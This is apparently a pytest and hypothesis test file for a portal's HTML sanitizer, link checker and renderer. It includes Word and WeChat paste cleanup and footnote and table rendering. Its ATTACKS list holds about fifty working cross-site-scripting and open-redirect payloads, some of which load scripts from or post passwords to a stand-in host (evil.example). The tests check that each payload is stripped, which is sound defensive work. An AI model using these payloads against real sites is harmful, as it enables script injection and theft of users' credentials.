"""What may stand in rich text, whoever wrote it."""

import html5lib
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from icma_portal.bilingual.reader import is_blank
from icma_portal.bilingual.rich_text import pictures
from icma_portal.bilingual.rich_text.links import safe_href
from icma_portal.bilingual.rich_text.markup import STORED_TAGS, is_markup
from icma_portal.bilingual.rich_text.plain import to_plain_text
from icma_portal.bilingual.rich_text.rendering import render
from icma_portal.bilingual.rich_text.sanitizer import clean

ATTACKS = [
    "<script>alert(1)</script>",
    "<p>a</p><script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img data-picture=1 src=x onerror=alert(1)>",
    "<img data-picture='1 onerror=alert(1)'>",
    "<svg onload=alert(1)><p>a</p></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;"
    "&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mi//xlink:href='data:x,<script>alert(4)</script>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<xmp><img title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object><embed src='javascript:alert(1)'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a><a href='data:text/html,<script>alert(1)</script>'>y</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/\\evil.example'>x</a>",
    "<a href='/\t/evil.example'>x</a>",
    "<a href='\\\\evil.example'>x</a>",
    "<a href='https:evil.example'>x</a><a href='https:///evil.example'>y</a>",
    "<a href='https://portal.example@evil.example'>x</a>",
    "<a href='／／evil.example'>x</a>",
    "<a href='javascript：alert(1)'>x</a>",
    "<a href='/en/' onclick='alert(1)' style='position:fixed' target=_blank>x</a>",
    "<p style='background:url(javascript:alert(1))' class='site-header' id='content'>x</p>",
    "<p onmouseover=alert(1) onfocus=alert(1) autofocus tabindex=1>x</p>",
    "<table background='javascript:alert(1)'><tr><td style='x:expression(1)'>x</table>",
    "<td colspan='1\" onclick=alert(1)'>x</td>",
    "<style>@import '//evil.example/x.css';</style><link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'><base href=//evil.example>",
    "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>x",
    "<video src=x onerror=alert(1)><audio src=x onerror=alert(1)><details open ontoggle=alert(1)>",
    "<!--><img src=x onerror=alert(1)>--><p>a</p>",
    "<![CDATA[<img src=x onerror=alert(1)>]]><p>a</p>",
    "<?xml version='1.0'?><img src=x onerror=alert(1)>",
    "<small class='footnote' onclick=alert(1)><script>alert(1)</script>note</small>",
    "<p>\x00<scr\x00ipt>alert(1)</scr\x00ipt></p>",
    "&lt;script&gt;alert(1)&lt;/script&gt;<p>&lt;img src=x onerror=alert(1)&gt;</p>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<a href='mailto:a@b.example?body=x&bcc=c@d.example'>x</a>",
    "<div>" * 5000 + "<img src=x onerror=alert(1)>deep",
]
ALLOWED_ATTRIBUTES = {
    "a": {"href"},
    "img": {"data-picture"},
    "small": {"class"},
    "ol": {"start"},
    "td": {"colspan", "rowspan"},
    "th": {"colspan", "rowspan"},
}
WORD = """<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><meta name=Generator
content="Microsoft Word 15"><title>Report</title><style><!-- p.MsoNormal {margin:0cm;} --></style>
<!--[if gte mso 9]><xml><w:WordDocument><w:View>Normal</w:View></w:WordDocument></xml><![endif]-->
</head><body lang=EN-US><div class=WordSection1>
<h1 style='mso-margin-top-alt:auto'><a name="_Toc1"></a>Water<o:p></o:p></h1>
<p class=MsoNormal style='margin-bottom:8pt'><span style='font-size:12.0pt;font-family:
"Times New Roman",serif'>The <b style='mso-bidi-font-weight:normal'>city’s <i>plan</i></b> says
“save\u00a0water”
— 10\u00a0%.<o:p>&nbsp;</o:p></span></p>
<p class=MsoListParagraphCxSpFirst style='text-indent:-18.0pt;mso-list:l0 level1 lfo1'><![if
!supportLists]><span style='font-family:Symbol'><span style='mso-list:Ignore'>·<span
style='font:7.0pt "Times New Roman"'>&nbsp;&nbsp;&nbsp; </span></span></span><![endif]>First<o:p>
</o:p></p>
<p class=MsoListParagraphCxSpMiddle style='mso-list:l0 level2 lfo1'><![if !supportLists]><span
style='mso-list:Ignore'>o<span>&nbsp; </span></span><![endif]>Inner</p>
<p class=MsoListParagraphCxSpLast style='mso-list:l0 level1 lfo1'><!--[if !supportLists]--><span
style='mso-list:Ignore'>·<span>&nbsp; </span></span><!--[endif]-->Second</p>
<p class=MsoListParagraph style='mso-list:l1 level1 lfo2'><span style='mso-list:Ignore'>1.<span>
&nbsp;</span></span>Numbered</p>
<table class=MsoTableGrid border=1><tr style='mso-yfti-irow:0'><td width=300 valign=top><p
class=MsoNormal>Year<o:p></o:p></p></td><td colspan=2><p class=MsoNormal>Cost</p></td></tr></table>
<p class=MsoNormal><o:p>&nbsp;</o:p></p><p class=MsoNormal><v:shape>x</v:shape></p>
</div></body></html>"""
WECHAT = """<section style="margin: 0px; box-sizing: border-box;" data-role="outer"
label="Powered by 135editor.com"><section><section
style="text-align: center;"><img class="rich_pages"
data-src="https://mmbiz.example/mmbiz_jpg/abc/640?wx_fmt=jpeg"
data-ratio="0.66" /></section></section>
<section style="line-height: 1.75em;"><span style="color: rgb(63, 63, 63);">　　<strong
style="color: red;"><span>国际市（县）管理协会</span></strong><span>与中国城市合作。</span><br />
</span></section><section><br></section><p style="display:none;"></p><mpvoice
class="js_editor_audio" name="x"></mpvoice>
<section><p><span leaf="">第二段：</span><a href="http://mp.weixin.example/s?__biz=1&amp;mid=2"
data-linktype="2">链接</a><a href="weixin://dl/chat">私信</a></p></section>
<section data-tools="135"><section><section><p><span><em>说明</em></span></p></section>
</section></section>
<ul class="list-paddingleft-1"><li><p>一</p></li><li><section><span>二</span></section></li></ul>
</section><mp-common-profile data-id="x"></mp-common-profile>"""


def elements(html):
    fragment = html5lib.parseFragment(html, treebuilder="etree", namespaceHTMLElements=False)
    return [each for each in fragment.iter() if isinstance(each.tag, str)][1:]


def assert_within_policy(html):
    for element in elements(html):
        assert element.tag in STORED_TAGS, html
        assert set(element.attrib) <= ALLOWED_ATTRIBUTES.get(element.tag, set()), html
        if element.tag == "a":
            assert safe_href(element.attrib["href"]) == element.attrib["href"]
        assert element.attrib.get("class", "footnote") == "footnote"


def without_white_space(text):
    return "".join(text.replace("\u200b", "").replace("\ufeff", "").split())


@pytest.mark.parametrize("attack", ATTACKS, ids=range(len(ATTACKS)))
def test_an_attack_leaves_nothing_active(attack, monkeypatch):
    monkeypatch.setattr(pictures, "shown_in", lambda blocks, user: {})

    stored = clean(attack)

    assert_within_policy(stored)
    assert clean(stored) == stored
    shown = render(attack, "en", "x")
    for element in elements(shown):
        assert not any(name.startswith("on") or name == "style" for name in element.attrib)
        assert element.tag not in ("script", "style", "iframe", "svg", "math", "form", "img")
        address = element.attrib.get("href", "/")
        assert address.startswith("#x-") or safe_href(address) == address


def test_there_are_attacks_enough():
    assert len(ATTACKS) >= 30


@pytest.mark.parametrize(
    "address",
    [
        "https://icma.org/a?b=c#d",
        "http://icma.org:8080",
        "https://例子.cn/路径",
        "mailto:a@b.example",
        "mailto:a@b.example?subject=Hello",
        "/en/programs/",
        "/zh-hans/?page=2",
        "#section-why",
        "https://a.example/x//y",
        "/en/?next=//x",
    ],
)
def test_a_good_address_is_kept(address):
    assert safe_href(address) == address
    assert address.replace("&", "&amp;") in clean(f'<p><a href="{address}">x</a></p>')


@pytest.mark.parametrize(
    "address",
    [
        *("//evil.example", "///evil.example", "/\\evil.example", "\\/evil.example", "/a//b"),
        *("https:evil", "https:/evil", "https:///evil", "https://", "http://a@b", "https://a:b@c"),
        *("javascript:x", "data:text/html,x", "ftp://a", "file:///etc", "tel:1", "//", "/x\ty"),
        *(
            "page.html",
            "?q",
            "",
            "#",
            " ",
            "/en/ x",
            "/a\u200bb",
            "／/evil",
            "https://evil．example",
        ),
        *(
            "https://evil。example",
            "https：//a",
            "http://a b",
            "mailto:",
            "mailto:x",
            "http://a:99999",
        ),
        *("http://[", "https://a/\u202ex", "x" * 3000, "/" + "x" * 3000, None, "https://a?b\\c"),
    ],
)
def test_a_bad_address_is_refused_and_its_text_kept(address):
    assert safe_href(address) is None
    assert clean(f"<p><a href='{address}'>words</a></p>") == "<p>words</p>"


@pytest.mark.parametrize(
    ("text", "stored"),
    [
        ("a < b & c", "<p>a &lt; b &amp; c</p>"),
        ("one\ntwo\r\n\r\nthree", "<p>one<br>two</p><p>three</p>"),
        ("  \n\n x \n", "<p>x</p>"),
        ("AT&amp;T", "<p>AT&amp;amp;T</p>"),
        ("if x <y and y> z", "<p>if x &lt;y and y&gt; z</p>"),
        ("<p>a<b>b</b><strong>c</strong></p>", "<p>a<strong>bc</strong></p>"),
        ("<h1>a</h1><h6>b</h6>", "<h2>a</h2><h4>b</h4>"),
        ("<div>a<div>b</div>c</div>", "<p>a</p><p>b</p><p>c</p>"),
        ("<p>a<br><br>b<br></p>", "<p>a</p><p>b</p>"),
        ("<h2>a<br><br>b</h2>", "<h2>a<br>b</h2>"),
        ("<ul><li>a<ul><li>b</ul></ul>", "<ul><li><p>a</p><ul><li><p>b</p></li></ul></li></ul>"),
        ("<ul><li></li></ul><p>a</p>", "<p>a</p>"),
        ("<ol start=3><li>a</ol>", '<ol start="3"><li><p>a</p></li></ol>'),
        ("<strong><p>a</p><p>b</p></strong>", "<p><strong>a</strong></p><p><strong>b</strong></p>"),
        ("<p>a <a href=/en/> </a> b</p>", "<p>a b</p>"),
        ("<p>a<small>b</small></p>", "<p>ab</p>"),
        (
            "<table><caption>c</caption><tr><th>a</table>",
            "<p>c</p><table><tbody><tr><th><p>a</p></th></tr></tbody></table>",
        ),
        ("<table><tr><td>&nbsp;</td></tr></table>", ""),
        ("<img data-picture=7><img src=/x.png>", '<img data-picture="7">'),
        (
            "<p><small class=footnote>a</small><small class=footnote>b</small></p>",
            '<p><small class="footnote">a</small><small class="footnote">b</small></p>',
        ),
    ],
)
def test_one_text_has_one_spelling(text, stored):
    assert clean(text) == stored
    assert clean(stored) == stored


def test_a_text_from_word_becomes_headings_paragraphs_and_lists():
    assert clean(WORD) == (
        "<h2>Water</h2>"
        "<p>The <strong>city’s <em>plan</em></strong> says “save&nbsp;water” — 10&nbsp;%.</p>"
        "<ul><li><p>First</p><ul><li><p>Inner</p></li></ul></li><li><p>Second</p></li></ul>"
        "<ol><li><p>Numbered</p></li></ol>"
        "<table><tbody><tr>"
        '<td><p>Year</p></td><td colspan="2"><p>Cost</p></td></tr></tbody></table>'
        "<p>x</p>"
    )


def test_a_text_from_wechat_becomes_paragraphs():
    assert clean(WECHAT) == (
        "<p><strong>国际市（县）管理协会</strong>与中国城市合作。</p>"
        '<p>第二段：<a href="http://mp.weixin.example/s?__biz=1&amp;mid=2">链接</a>私信</p>'
        "<p><em>说明</em></p><ul><li><p>一</p></li><li><p>二</p></li></ul>"
    )


HTML_PARTS = st.sampled_from(
    [
        *(
            "<p>",
            "</p>",
            "<b>",
            "</b>",
            "<em>",
            "</em>",
            "<ul>",
            "<li>",
            "</ul>",
            "<table>",
            "<tr>",
        ),
        *("<td>", "<th>", "</table>", "<br>", "<h2>", "</h2>", "<a href=/en/>", "<a href=//x>"),
        *("</a>", "<small class=footnote>", "</small>", "<div>", "</div>", "<blockquote>", "<hr>"),
        *("</blockquote>", "<script>", "</script>", "<!--", "-->", "&nbsp;", "&lt;", "<svg>"),
        *("<math>", "<style>", "</style>", "<img data-picture=3>", "<sub>", "</sub>", "<section>"),
        *("<caption>", "<p style='mso-list:l0 level1'>", "<p style='mso-list:l0 level2'>"),
    ]
)
SOUP = st.lists(st.one_of(HTML_PARTS, st.text(max_size=4), st.just(" "), st.just("x")), max_size=25)


@settings(max_examples=400, deadline=None)
@given(SOUP.map("".join))
@example("<p><b> </b><small class=footnote> </small>x</p>")
def test_cleaning_is_idempotent_and_stays_within_the_policy(soup):
    stored = clean(soup)

    assert clean(stored) == stored
    assert_within_policy(stored)


@settings(max_examples=300, deadline=None)
@given(
    st.text(
        st.characters(exclude_categories=["Cc", "Cs", "Cn", "Co"]) | st.sampled_from("<>&\n \"'"),
        max_size=80,
    )
)
def test_plain_text_loses_nothing_visible(text):
    if is_markup(text):
        return

    assert without_white_space(to_plain_text(clean(text))) == without_white_space(text)


@pytest.mark.parametrize(
    "text",
    [
        *(
            "<p><span></span></p>",
            "<p>&nbsp;<br></p>",
            "<ul><li></li></ul>",
            "<p>\u200b&#8203;</p>",
        ),
        *(
            "<table><tbody><tr><td><p> </p></td></tr></tbody></table>",
            "<h2><strong> </strong></h2>",
        ),
        *("<!-- x --><div style='a'></div>", "<section><o:p>&nbsp;</o:p></section>", "&emsp;　"),
    ],
)
def test_html_that_shows_nothing_is_blank(text):
    assert is_blank(text)
    assert clean(text) == "" or not is_markup(text)


@pytest.mark.parametrize(
    "text", ["<hr>", '<img data-picture="1">', "<3", "a<br>", "<p>0</p>", "&amp;"]
)
def test_html_that_shows_something_is_not_blank(text):
    assert not is_blank(text)


def test_blankness_of_a_long_hostile_text_is_told_quickly():
    assert not is_blank("<!--" * 20_000 + "x")
    assert is_blank("<p> </p>" * 20_000)
    assert not is_blank("<p " * 20_000)


def test_plain_text_keeps_the_structure_as_words():
    html = (
        "<h2>T</h2><p>a<br>b<small class=footnote>n</small></p><ol start=3><li>x<ul><li>y</ul></ol>"
        "<table><tr><th>h<th>i<tr><td>1<td>2</table><p>&lt;&amp;</p>"
    )

    assert to_plain_text(html) == "T\n\na\nb [n]\n\n3. x\n  • y\n\nh\ti\n1\t2\n\n<&"


def test_headings_continue_the_outline_of_the_page():
    html = "<h2>a</h2><h4>b</h4>"

    assert render(html, "en", "x", level=3) == "<h3>a</h3><h4>b</h4>"
    assert render(html, "en", "x", level=6) == "<h6>a</h6><h6>b</h6>"
    assert render("<h4>b</h4>", "en", "x", level=2) == "<h2>b</h2>"


def test_footnotes_are_numbered_linked_and_in_the_language_of_the_text():
    start = "<small class=footnote>"
    html = f"<p>a{start}one <b>x</b></small></p><p>b{start}two</small></p>"

    shown = render(html, "zh-hans", "record-1-text")

    ids = [each.attrib["id"] for each in elements(shown) if "id" in each.attrib]
    targets = [each.attrib["href"][1:] for each in elements(shown) if each.tag == "a"]
    assert len(ids) == len(set(ids)) == 4
    assert sorted(targets) == sorted(ids)
    assert "one <strong>x</strong> " in shown
    assert [each.attrib.get("role") for each in elements(shown) if each.tag == "section"] == [
        "doc-endnotes"
    ]


def test_tables_scroll_in_a_region_and_name_their_header_cells():
    html = "<table><tr><th>a<th>b<tr><th>c<td>d</table>"

    shown = render(html, "en", "x")

    assert shown.startswith(
        '<div class="table-scroll" role="region" tabindex="0" aria-label="Table 1">'
    )
    assert '<thead><tr><th scope="col">a</th><th scope="col">b</th></tr></thead>' in shown
    assert '<tr><th scope="row">c</th><td>d</td></tr>' in shown


def test_links_that_leave_the_site_say_so_and_the_tail_ends_the_last_paragraph():
    shown = render(
        "<p><a href='https://icma.org'>x</a></p><p>y</p>", "en", "x", tail="<sup>1</sup>"
    )

    assert shown == ('<p><a href="https://icma.org" rel="noopener">x</a></p><p>y<sup>1</sup></p>')
